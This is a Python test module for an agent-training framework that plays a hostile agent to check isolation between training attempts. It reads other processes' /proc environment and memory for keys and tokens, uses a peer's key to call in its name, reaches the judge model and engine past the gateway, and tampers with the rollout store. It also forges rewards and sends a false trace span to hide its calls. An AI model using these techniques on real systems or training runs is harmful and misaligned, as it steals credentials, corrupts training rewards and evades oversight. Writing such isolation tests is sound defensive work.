"""What an agent that means harm tries with what it finds: files, ``/proc``, its key, the network.

As a program it is the agent of a command: ``python attacks.py KIND FOLDER QUESTION``. Two attempts run at a
time. The first one attacks, the second one is the other attempt. ``FOLDER`` is where they meet; what is found
is written there, by reach: the way in, or ``null``.

The reaches use the standard library only, so that nothing of the suite stands between.
"""

from __future__ import annotations

import gc
import json
import os
import re
import sqlite3
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

SECRET, GOLD, JUDGE = b"trust-" + b"word-", b"gold-" + b"word-", "judged-by-the-" + "operator"
"""Beginnings of what must not be found, which do not stand in this file."""
AGENT = "attacker"
WAIT = 240.0
REACHES = ("secrets", "gold", "other", "judge", "engine", "store")
_KEY, _TOKEN = (re.compile(prefix + rb"[A-Za-z0-9_-]{60,}") for prefix in (rb"agl-", rb"aglr-"))
_CHUNK = 1 << 24


class Own:
    """What an attempt has of itself. ``given``: every text that reached it without looking."""

    def __init__(
        self, kind: str, folder: Path, ids: Mapping[str, str], url: str, key: str, given: str
    ) -> None:
        self.kind, self.folder, self.ids, self.url, self.key, self.given = kind, folder, ids, url, key, given

    @property
    def apart(self) -> bool:
        """Whether other processes are out of sight: a pod has processes of its own, which the kubelet of the
        tests does not give it."""
        return self.kind in ("job", "job-command")

    @property
    def visible(self) -> list[int]:
        """Processes that it may try to read: all, or in a pod itself and the runner that started it."""
        if self.apart:
            return [os.getpid(), *([os.getppid()] if self.kind == "job-command" else [])]
        try:
            return [int(name) for name in os.listdir("/proc") if name.isdigit()]
        except OSError:
            return []


def attack(own: Own) -> None:
    """Meet the other attempt, attack if this is the first one, and write what was reached."""
    role = _role(own.folder)
    call(own, "a call of mine")
    (own.folder / f"{role}.json").write_text(json.dumps({**own.ids, "pid": os.getpid()}))
    other = _wait(own.folder / ("second.json" if role == "first" else "first.json"))
    forge(1.0 if role == "first" else 0.0)
    if role == "second":
        _wait(own.folder / "reached.json")
        return
    status, text = call(own, "a call that I hide", headers={"x-agl-selected": "0"})
    if status == 200:
        hide(str(json.loads(text)["id"]))
    reached = {}
    for name in REACHES:
        try:
            reached[name] = globals()[f"reach_{name}"](own, other)
        except Exception as error:  # the cell was not tried, which is told, and the others are
            print(f"{name}: {type(error).__name__}: {error}", file=sys.stderr)
    if own.apart:
        end_as_won(own)
    written = own.folder / "reached.tmp"
    written.write_text(json.dumps(reached))
    written.rename(own.folder / "reached.json")


def _role(folder: Path) -> str:
    try:
        os.close(os.open(folder / "first", os.O_CREAT | os.O_EXCL))
        return "first"
    except FileExistsError:
        return "second"


def _wait(file: Path) -> dict[str, Any]:
    until = time.monotonic() + WAIT
    while True:
        try:
            found: dict[str, Any] = json.loads(file.read_text())
            return found
        except (OSError, ValueError):
            if time.monotonic() > until:
                raise TimeoutError(f"{file} did not come") from None
            time.sleep(0.05)


# ------------------------------------------------------------------------------------------ the reaches
def reach_secrets(own: Own, other: Mapping[str, Any]) -> str | None:
    """A secret of the run: in the environment, those of other processes, or the memory of the parent."""
    if SECRET in " ".join(os.environ.values()).encode() or SECRET.decode() in own.given:
        return "own environment"
    for file, text in _environments(own):
        if SECRET in text:
            return file
    return "the parent's memory" if any(SECRET in one for one in _memory(os.getppid(), own)) else None


def reach_gold(own: Own, other: Mapping[str, Any]) -> str | None:
    """What the reward compares with, in what the agent is given, or in the files of the run."""
    places = {
        "the task": own.given.encode(),
        "its environment": " ".join(os.environ.values()).encode(),
        "its arguments": " ".join(sys.argv).encode(),
        "its folder": b"".join(one.read_bytes() for one in Path().glob("*") if one.is_file())
        if own.kind in ("command", "job-command")
        else b"",
    }
    if own.kind == "command":
        stores = own.folder.parents[0].rglob("*.sqlite*")
        places["the run's folder, as the same user"] = b"".join(one.read_bytes() for one in stores)
    return next((name for name, text in places.items() if GOLD in text), None)


def reach_other(own: Own, other: Mapping[str, Any]) -> str | None:
    """Something of the other attempt that runs: its key, or the store's answer about it."""
    rollout, attempt = str(other["rollout_id"]), str(other["attempt_id"])
    for key, url, where in _other_keys(own, rollout, attempt):
        if key != own.key and call(own, "in another's name", key=key, url=url)[0] == 200:
            return where
    store, token = _store(own)
    if store is None:
        return None
    asks = {
        "read": ("GET", f"/v1/agl/rollouts/{rollout}", None),
        "key": ("POST", f"/v1/agl/rollouts/{rollout}/attempts/{attempt}/key", {}),
        "end": ("PATCH", f"/v1/agl/rollouts/{rollout}/attempts/{attempt}", {"status": "failed"}),
        "span": ("POST", "/v1/traces", _otlp(rollout, attempt, "intruder", {})),
    }
    for name, (verb, path, body) in asks.items():
        for bearer in dict.fromkeys([token, own.key]):
            status, text = ask(store + path, body, bearer, verb)
            if status == 200 and "rejected" not in text.lower():
                return f"the store: {name}"
    return None


def reach_judge(own: Own, other: Mapping[str, Any]) -> str | None:
    """The operator's paid model, which no agent is mapped to."""
    ways: dict[str, dict[str, Any]] = {
        "its name as model": {"model": "judge"},
        "x-agl-policy": {"headers": {"x-agl-policy": "judge"}},
        "x-agl-agent": {"headers": {"x-agl-agent": "judge"}},
        "a suffix": {"model": "policy@judge"},
    }
    for name, way in ways.items():
        if JUDGE in call(own, "judge me", **way)[1]:
            return name
    for one in upstreams() if own.kind == "inline" else ():
        url = one.url.rstrip("/")
        if JUDGE in ask(f"{url}/chat/completions", _body("judge me", "scripted"), one.api_key)[1]:
            return "its address and key in memory"
    return None


def reach_engine(own: Own, other: Mapping[str, Any]) -> str | None:
    """The engine without the gateway. Its address is told: who looks at the ports of a machine finds it."""
    told = _wait(own.folder / "engines.json")["urls"]
    if not told:
        raise ValueError("no engine was told")
    keys = [one.api_key for one in upstreams() if one.api_key] if own.kind == "inline" else []
    for url in told:
        for bearer in dict.fromkeys([None, own.key, *keys]):
            for path, body in (("chat/completions", _body("unseen", "policy")), ("models", None)):
                status, text = ask(f"{url}/{path}", body, bearer, "POST" if body else "GET")
                if status == 200 and text:
                    return f"its /{path}" + (" with its key, which is in memory" if bearer in keys else "")
    return None


def reach_store(own: Own, other: Mapping[str, Any]) -> str | None:
    """The store: its file, or its server's lists and queue."""
    if not own.apart:
        for file in own.folder.parents[0].rglob("*.sqlite"):
            connection = sqlite3.connect(f"file:{file}?mode=ro", uri=True)
            try:
                ((count,),) = connection.execute("SELECT COUNT(*) FROM rollouts")
            finally:
                connection.close()
            if count:
                return "its file, as the same user"
    store, token = _store(own)
    if store is None:
        return None
    asks: tuple[tuple[str, str, Any], ...] = (
        ("GET", "/v1/agl/runs", None),
        ("POST", "/v1/agl/rollouts/search", {}),
        ("POST", "/v1/agl/queue/dequeue", {"worker_id": "intruder"}),
        ("POST", "/v1/agl/rollouts", {"input": "mine"}),
    )
    for verb, path, body in asks:
        for bearer in dict.fromkeys([token, own.key, None]):
            if ask(store + path, body, bearer, verb)[0] == 200:
                return f"{verb} {path}"
    return None


# ---------------------------------------------------------------------------------------------- helpers
def call(
    own: Own,
    text: str,
    *,
    model: str = "policy",
    key: str | None = None,
    headers: Mapping[str, str] | None = None,
    url: str | None = None,
) -> tuple[int, str]:
    """Call the gateway; return status and answer."""
    named = {"x-agl-agent": AGENT, **(headers or {})}
    return ask(f"{url or own.url}/chat/completions", _body(text, model), key or own.key, headers=named)


def _body(text: str, model: str) -> dict[str, Any]:
    return {"model": model, "messages": [{"role": "user", "content": text}], "max_tokens": 8}


def ask(
    url: str, body: Any, bearer: str | None, verb: str = "POST", headers: Mapping[str, str] | None = None
) -> tuple[int, str]:
    """Send JSON; return status and answer, 0 for no answer."""
    given = {"Content-Type": "application/json", **(headers or {})}
    given |= {"Authorization": f"Bearer {bearer}"} if bearer else {}
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, given, method=verb)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(request, timeout=60) as answer:
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")
    except (OSError, ValueError):
        return 0, ""


def _otlp(rollout: str, attempt: str, name: str, more: Mapping[str, Any]) -> dict[str, Any]:
    """A span for an attempt, as an exporter sends it."""
    attributes = {"agl.rollout_id": rollout, "agl.attempt_id": attempt, **more}
    said = [{"key": key, "value": {"stringValue": str(value)}} for key, value in attributes.items()]
    one = {"traceId": "ef" * 16, "spanId": os.urandom(8).hex(), "name": name, "attributes": said}
    times = {"startTimeUnixNano": "1000000000", "endTimeUnixNano": "2000000000"}
    return {"resourceSpans": [{"scopeSpans": [{"spans": [{**one, **times}]}]}]}


def _environments(own: Own) -> Iterator[tuple[str, bytes]]:
    for pid in own.visible:
        try:
            yield f"/proc/{pid}/environ", Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue


def _memory(pid: int, own: Own) -> Iterator[bytes]:
    """Yield the writable memory of a process, if it may be read."""
    if pid not in own.visible:
        return
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                place, rights = line.split()[:2]
                start, end = (int(one, 16) for one in place.split("-"))
                if not rights.startswith("rw"):
                    continue
                while start < end:
                    try:
                        memory.seek(start)
                        yield memory.read(min(_CHUNK, end - start))
                    except (OSError, OverflowError, ValueError):
                        break
                    start += _CHUNK
    except OSError:
        return


def _other_keys(own: Own, rollout: str, attempt: str) -> Iterator[tuple[str, str, str]]:
    """Yield keys of the other attempt, with the address that takes them and where they were found."""
    if own.kind == "inline":
        for thing in gc.get_objects():
            if type(thing).__name__ == "Keys" and hasattr(thing, "mint"):
                yield (
                    thing.mint(rollout, attempt, run_id=own.ids["run_id"]),
                    own.url,
                    "the gateway's secret in memory",
                )
    for _, text in _environments(own):
        variables = dict(one.partition(b"=")[::2] for one in text.split(b"\0"))
        if attempt.encode() in variables.get(b"AGL_PROGRAM", b""):
            key, url = (variables[name].decode() for name in (b"OPENAI_API_KEY", b"OPENAI_BASE_URL"))
            yield key, url, "the environment of its process, as the same user"
    pid = int(json.loads((own.folder / "second.json").read_text())["pid"])
    if own.kind == "process" and pid != os.getpid():
        for chunk in _memory(pid, own):
            for key in {*_KEY.findall(chunk)}:
                yield key.decode(), own.url, "the memory of its process"


def upstreams() -> list[Any]:
    """What knows the addresses and keys of engines, in this process's memory."""
    return [
        thing
        for thing in gc.get_objects()
        if type(thing).__name__ == "Upstream" and isinstance(getattr(thing, "url", None), str)
    ]


def _store(own: Own) -> tuple[str | None, str | None]:
    """The store's address and the token for it, as far as the agent has them."""
    if not own.apart:
        return None, None
    words = Path(f"/proc/{own.visible[-1]}/cmdline").read_bytes().split(b"\0")
    url = os.fsdecode(words[words.index(b"--store") + 1])
    token = os.environ.get("AGL_TOKEN")
    if token is None and own.kind == "job-command":
        places = [text for _, text in _environments(own)]
        found = (_TOKEN.search(text) for text in (*places, *_memory(os.getppid(), own)))
        token = next((match[0].decode() for match in found if match), None)
    return url, token


def hide(response_id: str) -> None:
    """Send a span that says something false about an own call, so that it does not count."""
    import agentlightning as agl
    from agentlightning import semconv
    from agentlightning.capture.delivery import deliver, new_span
    from agentlightning.capture.identity import parent_ids

    context = agl.current_attempt()
    assert context is not None
    about = {
        semconv.LAYER: "wire",
        semconv.RESPONSE_ID: response_id,
        semconv.CHOICE: 0,
        semconv.TOKENS_DIGEST: "0" * 32,
    }
    deliver(context, new_span(context, "chat", parent_ids(context.attempt_id), about))


def forge(value: float) -> None:
    """Emit a reward for the own calls."""
    import agentlightning as agl

    agl.emit_reward(value, agent=AGENT)


def end_as_won(own: Own) -> None:
    """End the own attempt with a returned reward, and with none of the own calls, by the token of the runner
    around it.
    """
    import msgspec

    from agentlightning import semconv
    from agentlightning.capture.emit import returned_reward_span

    store, token = _store(own)
    path = f"/v1/agl/rollouts/{own.ids['rollout_id']}/attempts/{own.ids['attempt_id']}"
    won = {"status": "succeeded", "returned": [msgspec.to_builtins(returned_reward_span(1.0))]}
    for body in ({"metadata": {semconv.SUPPLIED: []}}, won):
        ask(f"{store}{path}", body, token or own.key, "PATCH")


def main() -> None:
    """Attack as a command."""
    settings = json.loads(os.environ["AGL_PROGRAM"])
    ids = {"rollout_id": settings["rollout_id"], "attempt_id": settings["attempt_id"], "run_id": ""}
    kind, folder = sys.argv[1], Path(sys.argv[2])
    given = " ".join([*sys.argv, sys.stdin.read()])
    own = Own(kind, folder, ids, os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"], given)
    attack(own)


if __name__ == "__main__":
    main()
